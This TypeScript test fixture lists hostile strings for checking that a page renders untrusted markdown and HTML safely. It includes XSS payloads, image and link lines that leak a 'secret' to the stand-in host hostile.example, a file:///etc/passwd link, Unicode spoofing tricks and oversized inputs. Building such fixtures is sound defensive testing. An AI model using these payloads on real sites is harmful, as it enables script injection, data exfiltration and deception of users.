/**
 * @file Texts that would do harm in a page that trusts them: they fetch, run, lead
 * away, spoof, overflow, or take for ever. As answers, as typed turns, as names.
 */

/** Where they lead, if they lead anywhere: no request to it may ever be seen. */
export const ELSEWHERE = 'hostile.example';

const FAR = `https://${ELSEWHERE}`;
/** What a script would do. */
const RUN = 'window.tripwire=1';

export const FETCHING: readonly string[] = [
  `![scan](${FAR}/pixel.png?q=secret)`,
  `![scan][ref]\n\n[ref]: ${FAR}/pixel.png`,
  `[![nested](${FAR}/a.png)](${FAR}/b)`,
  `<img src="${FAR}/x.png">`,
  `<img src=x onerror="${RUN}">`,
  `<picture><source srcset="${FAR}/x.webp"><img></picture>`,
  `<video src="${FAR}/v.mp4" autoplay poster="${FAR}/p.png"></video>`,
  `<audio src="${FAR}/a.mp3" autoplay></audio>`,
  `<iframe src="${FAR}"></iframe>`,
  `<iframe srcdoc="<script>parent.tripwire=1</script>"></iframe>`,
  `<object data="${FAR}/o.swf"></object><embed src="${FAR}/e.swf">`,
  `<link rel="stylesheet" href="${FAR}/s.css"><link rel="prefetch" href="${FAR}/p">`,
  `<style>@import url(${FAR}/s.css); body { background: url(${FAR}/b.png) }</style>`,
  `<p style="background:url(${FAR}/bg.png)">styled</p>`,
  `<svg><image href="${FAR}/i.png"/><use href="${FAR}/u.svg#a"/></svg>`,
  `<meta http-equiv="refresh" content="0;url=${FAR}">`,
  `<base href="${FAR}/">`,
  `<form action="${FAR}"><button>Send</button></form>`,
  `<table background="${FAR}/t.png"><tr><td>x</td></tr></table>`,
];

export const RUNNING: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${FAR}/s.js"></script>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><foreignObject><body onload="${RUN}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<a href="javascript:${RUN}" onclick="${RUN}">x</a>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<template><script>${RUN}</script></template>`,
  `\`\`\`html\n<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\<script>${RUN}\\</script>`,
];

export const LEADING_AWAY: readonly string[] = [
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java&#115;cript:${RUN})`,
  `[click](<java\tscript:${RUN}>)`,
  `[click](\u0001javascript:${RUN})`,
  `[click](vbscript:msgbox)`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](blob:${FAR}/1)`,
  `[click](file:///etc/passwd)`,
  `[the guideline](${FAR}/leak?q=secret)`,
  `[the guideline](//${ELSEWHERE}/leak)`,
  `[https://who.int](${FAR})`,
  `[x](\\\\${ELSEWHERE}\\share)`,
  `<${FAR}/auto>`,
  `<javascript:${RUN}>`,
  `${FAR}/literal?a=1&b=2`,
  `www.${ELSEWHERE}/literal`,
  `doctor@${ELSEWHERE}`,
  `[ref]: ${FAR}/ref\n\n[ref]`,
  `Evidence[^1].\n\n[^1]: [source](${FAR}/note)`,
  `[mail](mailto:a@${ELSEWHERE}?body=secret) [call](tel:+1900)`,
];

export const SPOOFING: readonly string[] = [
  'film\u202Egpj.exe',
  '5\u202E0.0\u202C mg',
  '\u2067right\u2066left\u2069 no end',
  'a\u200Bs\u200Bp\u200Bi\u200Br\u200Bi\u200Bn\u200B',
  '\uFEFF\u2060\u00AD\u180Einvisible',
  'раураl (Cyrillic) and ｆｕｌｌ',
  'z\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(60),
  'درد قفسه سینه 5 mg',
  '\u0000\u0007\u001B[31mred\u001B[0m',
  '\uD800 lone \uDC00',
  '👩‍⚕️'.repeat(40),
  '𒐫𒈙⸻꧅﷽',
];

export const OVERFLOWING: readonly string[] = [
  'w'.repeat(3000),
  `\`${'c'.repeat(2000)}\``,
  `**${'b'.repeat(2000)}**`,
  `# ${'H'.repeat(1000)}`,
  `> ${'q'.repeat(1000)}`,
  `- ${'i'.repeat(1000)}`,
  `\`\`\`\n${'f'.repeat(3000)}`,
  `${FAR}/${'u'.repeat(2000)}`,
  `[${'t'.repeat(1000)}](${FAR}/${'u'.repeat(1000)})`,
  `| ${'cell | '.repeat(60)}\n|${'---|'.repeat(61)}\n| ${'x | '.repeat(60)}`,
  `| a |\n|---|\n| ${'y'.repeat(2000)} |`,
  Array.from({ length: 40 }, (_, deep) => `${'  '.repeat(deep)}- deep ${deep}`).join(
    '\n',
  ),
  `${'> '.repeat(10)}quoted`,
];

export const ENDLESS: readonly string[] = [
  '['.repeat(5000),
  '*a_ '.repeat(3000),
  '> '.repeat(5000),
  '- '.repeat(5000),
  '![]('.repeat(4000),
  '&amp;'.repeat(5000),
  `${'|a'.repeat(500)}\n${'|-'.repeat(500)}\n${'|\n'.repeat(2000)}`,
  'word\n\n'.repeat(40_000),
  'x'.repeat(1_000_000),
];

/** Each of them. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...FETCHING,
  ...RUNNING,
  ...LEADING_AWAY,
  ...SPOOFING,
  ...OVERFLOWING,
  ...ENDLESS,
];

/** Such as a name can be long. */
export const HOSTILE_NAMES: readonly string[] = [
  ...FETCHING,
  ...RUNNING,
  ...LEADING_AWAY,
  ...SPOOFING,
].map((text) => text.replaceAll('\n', ' ').slice(0, 200));
